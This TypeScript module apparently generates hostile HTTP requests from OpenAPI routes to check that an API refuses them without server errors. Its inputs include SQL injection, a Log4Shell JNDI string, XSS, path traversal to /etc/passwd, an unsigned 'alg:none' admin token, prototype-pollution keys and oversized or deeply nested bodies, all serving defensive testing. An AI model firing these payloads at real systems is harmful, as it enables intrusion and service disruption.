import { isId, pathOf, queryOf, sampleOf, type Route, type Schema } from './openapi.js';

export interface HostileRequest {
  readonly why: string;
  readonly method: string;
  readonly path: string;
  /** Sent as it is, byte for byte. */
  readonly body?: string;
  readonly contentType?: string;
  /** Undefined sends the client's own token. */
  readonly authorization?: string | null;
  /** What it may be answered: a refusal unless it says otherwise. */
  readonly expected?: readonly number[];
}

const MIB = 1_048_576;
const NOBODY = '01900000-0000-7000-8000-00000000dead';
/** {"alg":"none"}.{"client_id":"admin","scope":"platform:admin"}. */
const UNSIGNED = `${encode({ alg: 'none', typ: 'at+jwt' })}.${encode({ client_id: 'admin', scope: 'platform:admin' })}.`;

const BAD_IDS: readonly string[] = [
  'not-a-uuid',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  "'%20OR%20'1'='1",
  '__proto__',
  '%F0%9F%92%A3',
  '%E0%A4%A',
  'A'.repeat(300),
  NOBODY,
];

export const HOSTILE_TEXTS: readonly string[] = [
  "'; DROP TABLE tenant; --",
  '${jndi:ldap://nobody.example/a}',
  '<script>alert(1)</script>',
  'a\u0000b',
  '\ud800',
  '\u202egnp.exe',
  'x'.repeat(10_000),
  '💣'.repeat(64),
  '../../../../etc/passwd',
  'constructor',
];

const WRONG_TYPES: readonly unknown[] = [null, 42, true, [], {}, [[]], -1, 1e308, '', ['a'], { $ne: null }];

/** Whom requests name: in the path the id, in bodies what properties of a name hold. */
export interface Aim {
  readonly id: string;
  readonly given: Readonly<Record<string, unknown>>;
}

/** Ids of nobody and codes that do not exist: what is well formed still changes nothing. */
export const AT_NOBODY: Aim = {
  id: NOBODY,
  given: {
    plan: { code: 'no_such_plan' },
    tenantId: NOBODY,
    deploymentId: NOBODY,
    region: 'nowhere-9',
    subject: NOBODY,
  },
};

/** What is refused whatever the route does with good input; none of these may write. */
export function refusedRequests(route: Route, aim: Aim): HostileRequest[] {
  const path = pathOf(route, () => aim.id) + queryOf(route);
  const base = { method: route.method, path };
  return [
    ...tokens(route, base),
    ...badPaths(route, aim),
    ...badQueries(route, aim),
    ...(route.body === null ? [] : badBodies(route, route.body, base, aim)),
  ];
}

/** Texts that may be good data and may be not: never a 5xx. `POST /tenants` and the like name nobody, so nothing comes of it. */
export function hostileTexts(route: Route, { id, given }: Aim): HostileRequest[] {
  if (route.body === null) return [];
  const base = { method: route.method, path: pathOf(route, () => id) + queryOf(route) };
  const sample = sampleOf(route.body, given);
  return textPlaces(sample).flatMap((place) =>
    HOSTILE_TEXTS.map((text, index) => ({
      ...base,
      why: `text ${index} at /${place.join('/')}`,
      body: JSON.stringify(replaced(sample, place, text)),
      contentType: route.contentType,
    })),
  );
}

type Base = Pick<HostileRequest, 'method' | 'path'>;

function tokens(route: Route, base: Base): HostileRequest[] {
  if (route.scopes.length === 0 && !route.isOfMembers) return [];
  const bad: readonly (readonly [string, string | null])[] = [
    ['no token', null],
    ['a garbage token', 'Bearer garbage'],
    ['an unsigned token', `Bearer ${UNSIGNED}`],
    ['a token of 9,000 characters', `Bearer ${'a'.repeat(9_000)}`],
    ['another scheme', 'Basic YWRtaW46YWRtaW4='],
  ];
  return bad.map(([why, authorization]) => ({ ...base, why, authorization, expected: [401] }));
}

function badPaths(route: Route, { given }: Aim): HostileRequest[] {
  return route.pathParameters.flatMap((parameter) => {
    // A code that exists is no bad code; nobody's id is not found.
    const values = isId(parameter) ? BAD_IDS : BAD_IDS.filter((value) => value !== NOBODY);
    return values.map((value) => ({
      method: route.method,
      path: `${pathOf({ ...route, path: route.path.replace(`{${parameter}}`, '!') }, () => NOBODY).replace('!', value)}${queryOf(route)}`,
      why: `${parameter} is ${value.slice(0, 40)}`,
      ...(route.body !== null && {
        body: JSON.stringify(sampleOf(route.body, given)),
        contentType: route.contentType,
      }),
    }));
  });
}

function badQueries(route: Route, { id }: Aim): HostileRequest[] {
  if (route.method !== 'GET' || route.queryParameters.length === 0) return [];
  const path = pathOf(route, () => id);
  const good = queryOf(route);
  const and = (more: string) => `${path}${good === '' ? '?' : `${good}&`}${more}`;
  const limits = route.queryParameters.some(({ name }) => name === 'limit')
    ? ['limit=0', 'limit=-1', 'limit=1e9', 'limit=ten', 'limit=', 'cursor=garbage', 'cursor=%00', 'cursor[]=1']
    : [];
  return ['no_such_filter=1', '__proto__=1', 'constructor[prototype][x]=1', ...limits].map((more) => ({
    method: 'GET',
    path: and(more),
    why: `query ${more}`,
  }));
}

function badBodies(route: Route, schema: Schema, base: Base, { given }: Aim): HostileRequest[] {
  const sample = sampleOf(schema, given);
  const json = JSON.stringify(sample);
  // Files of rows may be larger than what else is sent.
  const most = route.contentType === 'text/csv' ? 4 : 1;
  const send = (why: string, body: string, more: Partial<HostileRequest> = {}): HostileRequest => ({
    ...base,
    why,
    body,
    contentType: route.contentType,
    ...more,
  });
  return [
    send('JSON that ends early', json.slice(0, -1)),
    send('not JSON', '<xml/>'),
    // Where no member is required, a body that says nothing is a good one.
    ...((schema.required ?? []).length === 0 ? [] : [send('an empty body', ''), send('the body null', 'null')]),
    ...['42', '"text"', '[]', '[[]]'].map((text) => send(`the body ${text}`, text)),
    send(`more than ${most} MiB`, JSON.stringify({ fill: 'x'.repeat(most * MIB) }), { expected: [413] }),
    send('10,000 levels', `${'['.repeat(10_000)}${']'.repeat(10_000)}`),
    send('100 levels in a member', `{"a":${'{"a":'.repeat(100)}1${'}'.repeat(101)}`),
    send('a key __proto__', `{"__proto__":{"isAdmin":true},${json.slice(1)}`),
    send('a key constructor', `{"constructor":{"prototype":{"x":1}},${json.slice(1)}`),
    send('a NUL in the text', json.replace('}', ',"nul":"a\\u0000b"}')),
    send('an unknown key', `{"noSuchKey":1,${json.slice(1)}`),
    send('text/plain', json, { contentType: 'text/plain' }),
    send('XML', '<a/>', { contentType: 'application/xml' }),
    send('a form', 'a=b', { contentType: 'application/x-www-form-urlencoded' }),
    send('bytes that are no UTF-8', '\u00ff\u00fe', { contentType: 'application/json; charset=utf-16' }),
    ...wrongTypes(schema, sample, send),
  ];
}

function wrongTypes(
  { properties = {}, required = [] }: Schema,
  sample: unknown,
  send: (why: string, body: string) => HostileRequest,
): HostileRequest[] {
  return Object.entries(properties).flatMap(([name, schema]) => {
    const types = [schema.type ?? 'object'].flat();
    // Some wrong types are right elsewhere: null where it is allowed, an empty list, a whole number.
    const wrong = WRONG_TYPES.filter((value) => !mayBe(value, types));
    const isMandatory = required.includes(name);
    const without = Object.fromEntries(Object.entries(sample as object).filter(([key]) => key !== name));
    return [
      ...wrong
        .filter((value) => value !== null || isMandatory)
        .map((value) =>
          send(`${name} is ${JSON.stringify(value)}`, JSON.stringify({ ...(sample as object), [name]: value })),
        ),
      ...(isMandatory ? [send(`without ${name}`, JSON.stringify(without))] : []),
    ];
  });
}

function mayBe(value: unknown, types: readonly string[]): boolean {
  if (value === null) return types.includes('null');
  if (Array.isArray(value)) return types.includes('array');
  if (typeof value === 'number') return types.includes('number') || types.includes('integer');
  if (typeof value === 'string') return types.includes('string');
  return types.includes(typeof value);
}

/** Where texts stand in a sample, as paths of keys. */
function textPlaces(value: unknown, place: readonly string[] = []): string[][] {
  if (typeof value === 'string') return [[...place]];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, member]) => textPlaces(member, [...place, key]));
}

function replaced(value: unknown, [key, ...rest]: readonly string[], text: string): unknown {
  if (key === undefined) return text;
  if (Array.isArray(value))
    return value.map((item, index) => (String(index) === key ? replaced(item, rest, text) : item));
  const object = value as Record<string, unknown>;
  return { ...object, [key]: replaced(object[key], rest, text) };
}

function encode(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}
